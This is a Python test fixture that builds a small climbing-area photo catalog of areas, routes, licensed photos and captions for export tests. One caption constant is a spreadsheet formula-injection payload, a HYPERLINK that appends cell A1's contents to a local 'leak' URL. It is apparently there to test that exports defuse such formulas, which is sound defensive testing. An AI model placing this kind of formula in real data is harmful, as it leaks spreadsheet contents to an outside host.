"""A small real catalog for the export tests: two areas, three routes, real photo
files tagged by the tagger's tiny colour model, covers chosen, licences stated."""

from __future__ import annotations

from catalog import open_catalog
from tagger.cover_catalog import choose_covers
from tagger.tagging import TagOptions, tag_catalog
from tests.tagger_helpers import ColourArtifact, add_area, add_photo, add_route, add_sighting

FORMULA_CAPTION = '=HYPERLINK("http://127.0.0.1/leak?"&A1)'
LICENCES = {"glory": "CC BY 4.0", "glory2": "All rights reserved", "topo": "CC0 1.0",
            "butt": "CC BY-SA 4.0"}
LARGE_URL = "http://127.0.0.1/img/glory-large.jpg"


def build_crag(catalog_path, cover_licences=("*",)):
    """The catalog (open for writing) and {name: sha256} of its photos."""
    catalog = open_catalog(catalog_path)
    with catalog.transaction() as tx:
        add_area(tx, 1, "Sunny Slab")
        add_area(tx, 2, "Shady Wall")
        add_route(tx, 1, 1, "Arete")
        add_route(tx, 2, 1, "Corner")
        add_route(tx, 3, 2, "Chimney")
        sha = {name: add_photo(catalog, tx, name, name.rstrip("2")) for name in LICENCES}
        add_sighting(tx, sha["glory"], 1, 1, caption=FORMULA_CAPTION, credit="Ann")
        add_sighting(tx, sha["glory"], None, 1, caption="the same photo, larger, on the area")
        tx.execute("UPDATE sightings SET image_url = ? WHERE route_id IS NULL",
                   [LARGE_URL])
        add_sighting(tx, sha["topo"], 1, 1, caption="the topo", credit="Bob")
        add_sighting(tx, sha["glory2"], 2, 1, caption="corner, all rights reserved")
        add_sighting(tx, sha["butt"], 3, 2, caption="from below")
        for name, licence in LICENCES.items():
            tx.execute("UPDATE sightings SET licence = ? WHERE sha256 = ?", [licence, sha[name]])
        tx.execute("INSERT INTO labels (sha256, label, origin) SELECT sha256, 'glory', 'test' "
                   "FROM images WHERE sha256 IN (?, ?)", [sha["glory"], sha["glory2"]])
    artifact = ColourArtifact()
    tag_catalog(catalog, artifact, TagOptions.from_settings(workers=0, backend="eager"))
    choose_covers(catalog, artifact.model_id, licences=cover_licences)
    return catalog, sha
